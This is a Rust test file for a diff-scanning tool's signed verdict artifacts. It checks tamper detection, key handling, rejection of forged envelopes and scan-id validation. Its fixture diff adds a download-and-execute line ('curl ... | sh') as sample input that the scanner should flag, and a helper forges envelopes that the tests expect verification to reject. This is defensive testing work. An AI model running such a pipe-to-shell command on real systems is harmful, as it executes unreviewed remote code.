//! Signed artifacts: DSSE PAE, round trips, tamper detection on every byte,
//! deterministic bytes, key rotation and the production refusal; and the
//! defects of issue 10 (each test names the defect it guards): short and
//! empty keys, the development key mixed with operator keys, envelopes that
//! are signed but do not mean anything consistent, timestamps and scan ids,
//! URL-safe base64, the signing split and ECDSA P-256 verification.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use diffver_core::artifact::wire::Algorithm;
use diffver_core::artifact::{
    self, ArtifactError, EcdsaP256Verifier, HmacSigner, KeyMode, Keyring, RawSignature, Signer,
    SignerIdentity, SigningMode, pae,
};
use diffver_core::policy::Policy;
use diffver_core::rules::Ruleset;
use diffver_core::suppress::Timestamp;
use diffver_core::verdict::{Inputs, ScanContext, Verdict, evaluate};
use hmac::Mac;
use proptest::prelude::*;

fn verdict(diff: &[u8]) -> Verdict {
    let rules = Ruleset::builtin();
    let policy = Policy::builtin("standard").unwrap();
    let ctx = ScanContext::new(
        "scan-42",
        Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap(),
    )
    .unwrap();
    evaluate(&Inputs::new(diff, &rules, &policy, &ctx))
}

const DIFF: &[u8] = b"--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n echo start\n+curl -s https://x.example/i.sh | sh\n";
const OP_KEY: &[u8; 32] = b"0123456789abcdef0123456789abcdef";

fn dev() -> Keyring {
    Keyring::development(SigningMode::Development).unwrap()
}

fn envelope() -> Vec<u8> {
    artifact::sign(
        &verdict(DIFF),
        &HmacSigner::deterministic(SigningMode::Development).unwrap(),
    )
    .unwrap()
}

fn hmac(key: &[u8], msg: &[u8]) -> Vec<u8> {
    let mut m = hmac::Hmac::<sha2::Sha256>::new_from_slice(key).unwrap();
    m.update(msg);
    m.finalize().into_bytes().to_vec()
}

/// An envelope around arbitrary payload bytes, HMAC-signed with `key` under
/// `keyid` — what an attacker holding (or guessing) a key can make.
fn forge(payload: &[u8], keyid: &str, key: &[u8]) -> Vec<u8> {
    let env = serde_json::json!({
        "payload": STANDARD.encode(payload),
        "payloadType": artifact::PAYLOAD_TYPE,
        "signatures": [{"keyid": keyid, "sig": STANDARD.encode(hmac(key, &pae(artifact::PAYLOAD_TYPE, payload)))}],
    });
    serde_jcs::to_vec(&env).unwrap()
}

fn payload_of(env: &[u8]) -> serde_json::Value {
    let outer: serde_json::Value = serde_json::from_slice(env).unwrap();
    let p = STANDARD.decode(outer["payload"].as_str().unwrap()).unwrap();
    serde_json::from_slice(&p).unwrap()
}

fn operator_envelope() -> Vec<u8> {
    artifact::sign(&verdict(DIFF), &HmacSigner::new("op", *OP_KEY).unwrap()).unwrap()
}

fn operator() -> Keyring {
    Keyring::new().with_key("op", *OP_KEY).unwrap()
}

#[test]
fn dsse_pae_test_vector() {
    assert_eq!(
        pae("http://example.com/HelloWorld", b"hello world"),
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world".to_vec()
    );
}

#[test]
fn round_trip_and_statement_shape() {
    let env = envelope();
    let checked = artifact::verify(&env, &dev()).unwrap();
    let v = &checked.verdict;
    assert_eq!(v.decision.as_str(), "fail");
    assert_eq!(v.scan_id, "scan-42");
    assert_eq!(v.scanned_at, "2026-11-29T09:00:00Z");
    assert_eq!(v.findings[0].rule_id, "exec.download-pipe-shell");
    assert_eq!(v.findings[0].raw_path.as_deref(), Some("run.sh"));
    let outer: serde_json::Value = serde_json::from_slice(&env).unwrap();
    assert_eq!(outer["payloadType"], "application/vnd.in-toto+json");
    let st = payload_of(&env);
    assert_eq!(st["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(st["predicateType"], "https://diffver.dev/verdict/v2");
    assert_eq!(st["subject"][0]["name"], "diffs/scan-42.patch");
    use sha2::Digest;
    let digest: String = sha2::Sha256::digest(DIFF)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(st["subject"][0]["digest"]["sha256"], digest.as_str());
    assert_eq!(checked.subject_sha256, digest);
    checked.check_diff(DIFF).unwrap();
    assert!(matches!(
        checked.check_diff(b"another diff"),
        Err(ArtifactError::SubjectMismatch { .. })
    ));
    // Issue 10, defect 2: the signer is recorded inside the signed bytes.
    assert_eq!(
        st["predicate"]["signer"],
        serde_json::json!({"key_id": "diffver-dev-v1", "mode": "development", "algorithm": "hmac-sha256"})
    );
    assert_eq!(
        (checked.key_id.as_str(), checked.mode),
        ("diffver-dev-v1", KeyMode::Development)
    );
}

#[test]
fn same_inputs_give_identical_bytes() {
    assert_eq!(envelope(), envelope());
    let other = artifact::sign(
        &verdict(b""),
        &HmacSigner::deterministic(SigningMode::Development).unwrap(),
    )
    .unwrap();
    assert_ne!(envelope(), other);
}

#[test]
fn every_single_byte_flip_fails_verification() {
    let env = envelope();
    let keys = dev();
    for i in 0..env.len() {
        let mut t = env.clone();
        t[i] ^= 0x01;
        assert!(
            artifact::verify(&t, &keys).is_err(),
            "flipping byte {i} was not detected"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn any_single_byte_change_fails(i in any::<prop::sample::Index>(), x in 1u8..=255) {
        let env = envelope_cached();
        let mut t = env.to_vec();
        let at = i.index(t.len());
        t[at] ^= x;
        prop_assert!(artifact::verify(&t, &dev()).is_err());
    }
}

fn envelope_cached() -> &'static [u8] {
    static ENV: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    ENV.get_or_init(envelope)
}

#[test]
fn keys_rotation_and_production() {
    assert_eq!(
        HmacSigner::deterministic(SigningMode::Production).unwrap_err(),
        ArtifactError::DeterministicInProduction
    );
    assert_eq!(
        Keyring::development(SigningMode::Production).unwrap_err(),
        ArtifactError::DeterministicInProduction
    );
    let v = verdict(DIFF);
    let (k_old, k_new) = ([1u8; 32], [2u8; 40]);
    let env_old = artifact::sign(&v, &HmacSigner::new("k-2025", k_old).unwrap()).unwrap();
    let env_new = artifact::sign(&v, &HmacSigner::new("k-2026", k_new).unwrap()).unwrap();
    let ring = Keyring::new()
        .with_key("k-2025", k_old)
        .unwrap()
        .with_key("k-2026", k_new)
        .unwrap();
    let checked = artifact::verify(&env_old, &ring).unwrap();
    assert_eq!(
        (checked.key_id.as_str(), checked.mode),
        ("k-2025", KeyMode::Operator),
        "old artifacts verify after rotation, and say which key"
    );
    assert!(artifact::verify(&env_new, &ring).is_ok());
    let only_new = Keyring::new().with_key("k-2026", k_new).unwrap();
    assert!(matches!(
        artifact::verify(&env_old, &only_new),
        Err(ArtifactError::UnknownKey { .. })
    ));
    let wrong = Keyring::new().with_key("k-2026", [3u8; 32]).unwrap();
    assert!(matches!(
        artifact::verify(&env_new, &wrong),
        Err(ArtifactError::BadSignature { .. })
    ));
    assert!(
        artifact::verify(&env_new, &dev()).is_err(),
        "the dev keyring does not accept operator keys"
    );
    assert!(matches!(
        Keyring::new()
            .with_key("k", [1u8; 32])
            .unwrap()
            .with_key("k", [2u8; 32]),
        Err(ArtifactError::DuplicateKey { .. })
    ));
    assert!(HmacSigner::new("", [1u8; 32]).is_err());
    assert!(HmacSigner::new("has space", [1u8; 32]).is_err());
}

#[test]
fn garbage_is_rejected_cleanly() {
    for junk in [
        &b""[..],
        b"{}",
        b"null",
        b"{\"payload\":\"\",\"payloadType\":\"x\",\"signatures\":[]}",
        &[0xff; 40],
    ] {
        assert!(artifact::verify(junk, &dev()).is_err());
    }
}

/// Issue 10, defect 1: an empty verification key verified forgeries HMAC'd
/// with the empty key (a key file holding only a newline).
#[test]
fn empty_and_short_keys_are_refused_everywhere() {
    for short in [&b""[..], b"\n", b"secret", &[b'x'; 31]] {
        assert!(
            matches!(
                Keyring::new().with_key("operator", short.to_vec()),
                Err(ArtifactError::KeyTooShort { min: 32, .. })
            ),
            "a {}-byte verification key was accepted",
            short.len()
        );
        assert!(matches!(
            HmacSigner::new("operator", short.to_vec()),
            Err(ArtifactError::KeyTooShort { .. })
        ));
    }
    // The forgery itself: whatever keyring an operator can build rejects it.
    let payload = artifact::payload(
        &verdict(b""),
        &SignerIdentity {
            key_id: "operator".into(),
            mode: KeyMode::Operator,
            algorithm: Algorithm::HmacSha256,
        },
    )
    .unwrap();
    let forged = forge(&payload, "operator", b"");
    assert!(matches!(
        artifact::verify(&forged, &operator()),
        Err(ArtifactError::UnknownKey { .. })
    ));
    assert!(Keyring::new().with_key("operator", [0u8; 32]).is_ok());
}

/// Issue 10, defect 2: the development key is a mode of its own, never
/// mixed with operator keys, and a verification says which key verified.
#[test]
fn development_key_is_never_an_operator_key() {
    assert!(matches!(
        dev().with_key("op", *OP_KEY),
        Err(ArtifactError::DevelopmentKeyMixed { .. })
    ));
    assert!(matches!(
        Keyring::new().with_key("op", artifact::DEVELOPMENT_KEY),
        Err(ArtifactError::DevelopmentKeyMixed { .. })
    ));
    assert!(matches!(
        Keyring::new().with_key(artifact::DEVELOPMENT_KEY_ID, *OP_KEY),
        Err(ArtifactError::DevelopmentKeyMixed { .. })
    ));
    assert!(HmacSigner::new("op", artifact::DEVELOPMENT_KEY).is_err());
    // A forgery made with the public key, labelled as the operator's, does
    // not verify with the operator keyring.
    let dev_env = envelope();
    let mut st = payload_of(&dev_env);
    st["predicate"]["signer"] =
        serde_json::json!({"key_id": "op", "mode": "operator", "algorithm": "hmac-sha256"});
    let forged = forge(
        &serde_jcs::to_vec(&st).unwrap(),
        "op",
        artifact::DEVELOPMENT_KEY,
    );
    assert!(matches!(
        artifact::verify(&forged, &operator()),
        Err(ArtifactError::BadSignature { .. })
    ));
    // An operator artifact relabelled as signed by someone else is refused.
    let mut st = payload_of(&operator_envelope());
    st["predicate"]["signer"]["key_id"] = "other".into();
    let relabelled = forge(&serde_jcs::to_vec(&st).unwrap(), "op", OP_KEY);
    assert!(matches!(
        artifact::verify(&relabelled, &operator()),
        Err(ArtifactError::SignerMismatch { .. })
    ));
    let ok = artifact::verify(&operator_envelope(), &operator()).unwrap();
    assert_eq!(ok.mode, KeyMode::Operator);
}

/// Issue 10, defect 3: signed with a valid key, but meaningless.
#[test]
fn signed_payloads_must_be_canonical_and_consistent() {
    let base = payload_of(&operator_envelope());
    let mut cases: Vec<(&str, Vec<u8>)> = Vec::new();
    // Non-canonical payload (pretty-printed, same content).
    cases.push(("non-canonical", serde_json::to_vec_pretty(&base).unwrap()));
    let mut edit = |what: &'static str, f: &dyn Fn(&mut serde_json::Value)| {
        let mut st = base.clone();
        f(&mut st);
        cases.push((what, serde_jcs::to_vec(&st).unwrap()));
    };
    edit("unknown decision", &|st| {
        st["predicate"]["decision"] = "maybe".into()
    });
    edit("pass with blocking findings", &|st| {
        st["predicate"]["decision"] = "pass".into();
        st["predicate"]["blocks"] = false.into();
    });
    edit("summary disagrees", &|st| {
        st["predicate"]["summary"]["blocking"] = 0.into()
    });
    edit("finding not blocking", &|st| {
        st["predicate"]["findings"][0]["blocking"] = false.into();
        st["predicate"]["summary"]["blocking"] = 0.into();
        st["predicate"]["summary"]["warnings"] = 1.into();
    });
    edit("unknown severity", &|st| {
        st["predicate"]["findings"][0]["severity"] = "severe".into()
    });
    edit("error without error", &|st| {
        st["predicate"]["decision"] = "error".into()
    });
    edit("bad scan id", &|st| {
        st["predicate"]["scan_id"] = "../x".into();
        st["subject"][0]["name"] = "diffs/../x.patch".into();
    });
    edit("subject name", &|st| {
        st["subject"][0]["name"] = "diffs/other.patch".into()
    });
    edit("time form", &|st| {
        st["predicate"]["scanned_at"] = "2026-11-29T10:00:00+01:00".into()
    });
    edit("old schema", &|st| {
        st["predicate"]["schema"] = "diffver.verdict/v1".into()
    });
    edit("extra field", &|st| st["predicate"]["note"] = "x".into());
    edit("another tool", &|st| {
        st["predicate"]["tool"]["name"] = "notdiffver".into()
    });
    edit("line 0", &|st| {
        st["predicate"]["findings"][0]["line"] = 0.into()
    });
    edit("digest not hex", &|st| {
        st["predicate"]["diff"]["sha256"] = "Z".repeat(64).into();
        st["subject"][0]["digest"]["sha256"] = "Z".repeat(64).into();
    });
    edit("two subjects", &|st| {
        let s = st["subject"][0].clone();
        st["subject"] = serde_json::json!([s.clone(), s]);
    });
    for (what, payload) in cases {
        let env = forge(&payload, "op", OP_KEY);
        assert!(
            matches!(
                artifact::verify(&env, &operator()),
                Err(ArtifactError::Payload { .. })
            ),
            "{what}: {:?}",
            artifact::verify(&env, &operator())
        );
    }
    // The unedited payload, re-signed the same way, verifies: the forge helper is sound.
    let env = forge(&serde_jcs::to_vec(&base).unwrap(), "op", OP_KEY);
    assert_eq!(env, operator_envelope());
}

/// Issue 10, defect 5: `Timestamp(i64::MAX)` rendered as 1970 into the signed time.
#[test]
fn timestamps_outside_rfc3339_are_refused() {
    assert!(Timestamp::from_unix_seconds(i64::MAX).is_err());
    assert!(Timestamp::from_unix_seconds(i64::MIN).is_err());
    assert!(Timestamp::from_unix_seconds(253_402_300_800).is_err());
    assert_eq!(
        Timestamp::MAX.to_rfc3339(),
        "9999-12-31T23:59:59Z",
        "the largest time renders as itself"
    );
    assert_eq!(Timestamp::MIN.to_rfc3339(), "0000-01-01T00:00:00Z");
    assert!(Timestamp::parse_rfc3339("10000-01-01T00:00:00Z").is_err());
    assert_eq!(
        Timestamp::parse_rfc3339("2026-11-29T10:00:00+01:00")
            .unwrap()
            .to_rfc3339(),
        "2026-11-29T09:00:00Z"
    );
}

/// Issue 10, defect 6: the scan id went raw into the subject name and object keys.
#[test]
fn scan_ids_are_restricted() {
    let t = Timestamp::from_unix_seconds(0).unwrap();
    for bad in [
        "../x",
        "a/b",
        ".hidden",
        "-flag",
        "a b",
        "a\nb",
        "ä",
        "a%2f",
        &"x".repeat(129),
    ] {
        assert!(ScanContext::new(bad, t).is_err(), "{bad:?} accepted");
    }
    for good in ["pr-42", "sha256-0123abcd", "A.b_c-1", &"x".repeat(128)] {
        assert!(ScanContext::new(good, t).is_ok(), "{good:?} refused");
    }
    assert!(ScanContext::new("", t).is_ok(), "empty derives the id");
}

/// Issue 10, defect 7: DSSE allows URL-safe base64.
#[test]
fn url_safe_base64_is_accepted() {
    let env: serde_json::Value = serde_json::from_slice(&operator_envelope()).unwrap();
    let payload = STANDARD.decode(env["payload"].as_str().unwrap()).unwrap();
    let sig = STANDARD
        .decode(env["signatures"][0]["sig"].as_str().unwrap())
        .unwrap();
    let url = serde_json::json!({
        "payload": URL_SAFE_NO_PAD.encode(&payload),
        "payloadType": artifact::PAYLOAD_TYPE,
        "signatures": [{"keyid": "op", "sig": URL_SAFE_NO_PAD.encode(&sig)}],
    });
    let bytes = serde_jcs::to_vec(&url).unwrap();
    assert!(artifact::verify(&bytes, &operator()).is_ok());
}

/// The signing split: a remote signer signs `signing_input` bytes; the
/// envelope assembled from its signature equals what `sign` makes.
#[test]
fn signing_split_matches_sign() {
    let v = verdict(DIFF);
    let signer = HmacSigner::new("op", *OP_KEY).unwrap();
    let payload = artifact::payload(&v, &signer.identity()).unwrap();
    let input = artifact::signing_input(&payload);
    let sig = signer.sign(&input).unwrap();
    let env = artifact::assemble(
        &payload,
        &[RawSignature {
            key_id: "op".into(),
            sig,
        }],
    )
    .unwrap();
    assert_eq!(env, artifact::sign(&v, &signer).unwrap());
    assert!(artifact::assemble(&payload, &[]).is_err());
    assert!(artifact::assemble(b"{}", &[]).is_err());
}

/// ECDSA P-256 (a KMS key) verifies offline with its public key.
#[test]
fn ecdsa_p256_public_key_verification() {
    use p256::ecdsa::signature::Signer as _;
    use p256::pkcs8::EncodePublicKey as _;
    struct Kms(p256::ecdsa::SigningKey);
    impl Signer for Kms {
        fn identity(&self) -> SignerIdentity {
            SignerIdentity {
                key_id: "kms-p256".into(),
                mode: KeyMode::Operator,
                algorithm: Algorithm::EcdsaP256Sha256,
            }
        }
        fn sign(&self, pae: &[u8]) -> Result<Vec<u8>, ArtifactError> {
            let s: p256::ecdsa::Signature = self.0.sign(pae);
            Ok(s.to_der().as_bytes().to_vec())
        }
    }
    let sk = p256::ecdsa::SigningKey::from_slice(&[0x11; 32]).unwrap();
    let pem = sk
        .verifying_key()
        .to_public_key_pem(p256::pkcs8::LineEnding::LF)
        .unwrap();
    let env = artifact::sign(&verdict(DIFF), &Kms(sk)).unwrap();
    let ring = Keyring::new()
        .with_verifier(Arc::new(
            EcdsaP256Verifier::from_public_key_pem("kms-p256", &pem).unwrap(),
        ))
        .unwrap();
    let ok = artifact::verify(&env, &ring).unwrap();
    assert_eq!(ok.algorithm, Algorithm::EcdsaP256Sha256);
    let other = p256::ecdsa::SigningKey::from_slice(&[0x22; 32]).unwrap();
    let other_pem = other
        .verifying_key()
        .to_public_key_pem(p256::pkcs8::LineEnding::LF)
        .unwrap();
    let wrong = Keyring::new()
        .with_verifier(Arc::new(
            EcdsaP256Verifier::from_public_key_pem("kms-p256", &other_pem).unwrap(),
        ))
        .unwrap();
    assert!(matches!(
        artifact::verify(&env, &wrong),
        Err(ArtifactError::BadSignature { .. })
    ));
    assert!(EcdsaP256Verifier::from_public_key_pem("k", "not a key").is_err());
}
